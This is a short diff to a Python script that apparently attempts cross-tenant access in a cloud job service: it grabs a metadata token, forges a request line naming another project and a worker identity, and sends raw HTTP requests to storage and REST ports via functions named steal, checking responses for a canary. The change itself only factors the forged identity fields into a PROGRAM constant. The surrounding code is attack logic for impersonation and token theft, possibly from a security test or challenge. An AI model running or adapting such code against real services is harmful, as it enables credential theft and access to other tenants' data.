@@ -413,6 +413,7 @@ def change_interpreter():
 # --- storage ---
 
 IDENTITY = json.dumps({"email": "owner@example.com", "reach": {"": 4}})
+PROGRAM = {"job_uid": 1, "replica": "workerpool0-0", "service_account": "x"}
 
 
 def bucket_directory():
@@ -517,14 +518,14 @@ def by_own_endpoint():
     own = steal(ENDPOINT, "") or steal(ENDPOINT, metadata(ENDPOINT))
     if own:
         return own
-    line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
+    line = json.dumps({**PROGRAM, "project": TARGET["other_project"]}).encode() + b"\n"
     ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
     return CANARY.search(raw(ENDPOINT, line, ask_for)) and "a preamble"
 
 
 def by_ports():
     token = metadata(ENDPOINT)
-    line = json.dumps({"project": TARGET["other_project"], "job_uid": 1}).encode() + b"\n"
+    line = json.dumps({**PROGRAM, "project": TARGET["other_project"]}).encode() + b"\n"
     ask_for = b"GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % paths_of_others()[0].encode()
     for place in (TARGET["storage_port"], TARGET["rest"]):
         if result := steal(place, "") or steal(place, token):
